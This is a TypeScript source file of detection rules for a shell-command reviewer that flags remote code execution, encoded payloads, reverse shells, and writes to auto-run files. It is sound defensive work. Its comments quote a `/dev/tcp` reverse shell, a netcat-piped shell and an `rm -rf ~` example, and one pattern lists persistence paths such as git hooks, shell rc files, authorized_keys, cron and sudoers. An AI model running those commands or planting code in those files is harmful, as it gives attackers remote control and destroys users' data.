import type { EffectOf } from '../../../programs/effect';
import type { Invocation, Stream, Unread } from '../../../shell/invocation';
import { readCommand } from '../../../shell/read-command';
import { resolveWord } from '../../../shell/paths';
import { shellNames } from '../../../programs/shells';
import { isForeign } from '../../../shell/reader/stream';
import { streamIn } from '../../../shell/reader/words';
import { effectRule, lineRule, objection, type EffectRule, type LineRule, type Objection } from './rule';

const way = 'Download it to a file inside the project, read it, and let the person decide whether to run it.';

function sayForeign(stream: Extract<Stream, { kind: 'remote' | 'decoded' }>, part: Invocation | string): Objection {
  return stream.kind === 'remote'
    ? objection(part, 'It runs unread code straight from the network.', way)
    : objection(
        part,
        'It runs code that is hidden in an encoding.',
        'Decode it to a file, read it, then write out the intended commands.',
      );
}

const runner = (unread: Unread): string =>
  (unread.text === '' ? `… | ${unread.runner}` : `${unread.runner} ${unread.text}`).slice(0, 160);

const foreignCodeRule = lineRule('run-foreign-code', (reading) => {
  for (const unread of reading.unread) {
    if (isForeign(unread.stream)) return sayForeign(unread.stream, runner(unread));
  }
  for (const invocation of reading.invocations) {
    if (invocation.program !== undefined) continue;
    const stream = streamIn(invocation.name);
    if (isForeign(stream)) return sayForeign(stream, invocation);
  }
  return undefined;
});

/** Strings in code, and what a substitution of sed puts in. */
function fragmentsOf(text: string): readonly string[] {
  const quoted = [...text.matchAll(/"((?:[^"\\]|\\.){5,2000})"|'((?:[^'\\]|\\.){5,2000})'/g)].map(
    (found) => found[1] ?? found[2] ?? '',
  );
  const put = [...text.matchAll(/\bs([/|#,])(?:(?!\1).)*\1((?:(?!\1).){5,2000})\1/g)].map((found) => found[2] ?? '');
  return [...put, ...quoted, ...quoted.flatMap((one) => (/["']/.test(one) ? fragmentsOf(one) : []))];
}

/** Every text that may take part in what a shell reads from this pipe. */
function textsBefore({ pipeline }: Invocation, all: readonly Invocation[]): readonly string[] {
  return all
    .filter((one) => one.pipeline.id === pipeline.id && one.pipeline.position < pipeline.position)
    .flatMap(({ args, stdin }) => [
      ...args.flatMap(({ text }) => [text, ...fragmentsOf(text)]),
      ...(stdin.kind === 'text' ? [stdin.text] : []),
    ]);
}

/** `awk 'BEGIN { print "rm -rf ~" }' | sh`: what a program prints for a shell is judged by the text it has to print. */
const printedCodeRule = lineRule('run-printed-code', (reading, view, judge) => {
  const hidden = reading.unread.filter(({ stream, runner: by }) => stream.kind === 'unknown' && runsText.test(by));
  if (hidden.length === 0) return undefined;
  const fed = reading.invocations.filter(
    ({ program, stdin }) => program !== undefined && shellNames.has(program) && stdin.kind === 'unknown',
  );
  const texts = [
    ...hidden.flatMap(({ text }) => fragmentsOf(text)),
    ...fed.flatMap((one) => textsBefore(one, reading.invocations)),
  ];
  for (const text of new Set(texts.filter((one) => /\w\s+\S/.test(one)).slice(0, 40))) {
    const refused = judge(readCommand(text, { cwd: view.roots[0] ?? '/', home: view.home }), view);
    if (refused !== undefined) {
      return objection(
        text.trim().slice(0, 160),
        `A shell runs the text printed here: ${refused.why}`,
        refused.instead,
      );
    }
  }
  return undefined;
});

/** A shell or interpreter that waits for input: the client can type into it without calling a hook. */
const typedCodeRule = lineRule('typed-code', ({ invocations }, { typesUnseen }) => {
  if (typesUnseen === undefined) return undefined;
  const waiting = invocations.find(
    ({ stdin, effects }) =>
      stdin.kind === 'inherited' && effects?.some((one) => one.kind === 'run' && one.code.form === 'input') === true,
  );
  if (waiting === undefined) return undefined;
  const why = `It waits for input, and no hook sees what ${typesUnseen} types into it.`;
  return objection(waiting, why, "Give it the code at once: `bash -c '…'`, `python3 -c '…'`, or a file.");
});

const runsText = /^(?:eval|source|\.|(?:ba|z|da|k|fi|a)?sh)(?:\s|$)/;

const shellWay = 'Nothing in a project needs a shell for the network; ask the person.';

const shellWhy = 'It gives a shell to another machine on the network.';

/** `bash -i >& /dev/tcp/host/port 0>&1`. */
export const redirectedShellRule = lineRule('remote-shell', ({ invocations }) => {
  const shell = invocations.find(
    ({ program, redirects }) =>
      program !== undefined &&
      shellNames.has(program) &&
      redirects.some(({ target }) => target !== undefined && /^\/dev\/(?:tcp|udp)\//.test(target.text)) &&
      redirects.some(({ fd, operator }) => operator === '<>' || (fd === '0' && /^[<>]&$/.test(operator))),
  );
  return shell && objection(shell, shellWhy, shellWay);
});

/** `cat pipe | sh -i | nc host port`: orders come from a pipe, answers leave through the network. */
const pipedShellRule = lineRule('remote-shell', ({ invocations }) => {
  for (const shell of invocations) {
    if (
      shell.program === undefined ||
      !shellNames.has(shell.program) ||
      shell.stdin.kind === 'text' ||
      shell.stdin.kind === 'inherited'
    ) {
      continue;
    }
    if (!shell.args.every(({ text }) => /^-[is]+$/.test(text))) continue;
    const sender = invocations.find(
      ({ pipeline, effects }) =>
        pipeline.id === shell.pipeline.id &&
        pipeline.position > shell.pipeline.position &&
        effects?.some(({ kind }) => kind === 'send') === true,
    );
    if (sender !== undefined) return objection(sender, shellWhy, shellWay);
  }
  return undefined;
});

const sentShellRule = effectRule('remote-shell', 'send', ({ shell }, invocation) =>
  shell === true ? objection(invocation, shellWhy, shellWay) : undefined,
);

/** Files that run by themselves: git hooks, what a shell reads at its start, schedules, and keys that open the machine. */
const runsByItself =
  /\/\.git\/hooks\/|\/\.husky\/|\/\.ssh\/(?:authorized_keys2?|rc|config)$|\/\.(?:bashrc|bash_profile|bash_login|bash_logout|profile|zshrc|zshenv|zprofile|zlogin)$|\/\.config\/(?:fish\/|autostart\/|systemd\/)|^\/etc\/(?:cron|sudoers|profile|bash\.bashrc|zsh|rc\.local|ld\.so\.preload)|^\/var\/spool\/cron|\/Library\/Launch(?:Agents|Daemons)\//;

function planting({ path, cwd, content, from }: EffectOf<'write'>, invocation: Invocation): Objection | undefined {
  const place = invocation.elsewhere ? undefined : resolveWord(cwd, path);
  if (place === undefined || !runsByItself.test(place)) return undefined;
  const downloads = invocation.effects?.some(({ kind }) => kind === 'fetch') === true;
  const foreign = content === undefined ? from === undefined && downloads : isForeign(content);
  return foreign
    ? objection(invocation, 'It writes unread text from the network to a file that takes effect automatically.', way)
    : undefined;
}

export const foreignCodeRules: readonly EffectRule[] = [
  sentShellRule,
  effectRule('run-foreign-code', 'write', planting),
];

/** Code that is not visible from here: only `strict` refuses it, and auto-review never approves it. */
const unseenCodeRule = lineRule(
  'run-unseen-code',
  (reading, { typesUnseen }) => {
    // A counter that was read from a file is no reason to refuse; auto-review leaves it to the person.
    const unread = reading.unread.find(
      ({ why, runner, stream }) =>
        why !== 'script-file' && runner !== 'arithmetic' && (stream.kind !== 'inherited' || typesUnseen !== undefined),
    );
    if (unread !== undefined) {
      return objection(runner(unread), 'The code it runs is not in the command.', 'Write the commands out.');
    }
    const hidden = reading.invocations.find(
      (invocation) => invocation.program === undefined && invocation.args.length > 0,
    );
    return hidden === undefined
      ? undefined
      : objection(hidden, 'Which program it runs is not in the command.', 'Write the program out.');
  },
  'strict',
);

/** A line that is too long or too deeply nested to parse may hide anything. */
const unreadableRule = lineRule('too-long-to-read', (reading) => {
  const cut = reading.unread.find((entry) => entry.why === 'too-long' || entry.why === 'too-deep');
  if (cut === undefined) return undefined;
  const why = cut.why === 'too-long' ? 'It is too long to be fully parsed.' : 'It is nested too deeply to be parsed.';
  return objection(
    `${reading.source.slice(0, 80)}…`,
    why,
    'Split it into several commands, or write a script file that can be reviewed.',
  );
});

export const foreignLineRules: readonly LineRule[] = [pipedShellRule, foreignCodeRule, printedCodeRule, typedCodeRule];

/** What no other rule could judge. */
export const unseenLineRules: readonly LineRule[] = [unreadableRule, unseenCodeRule];
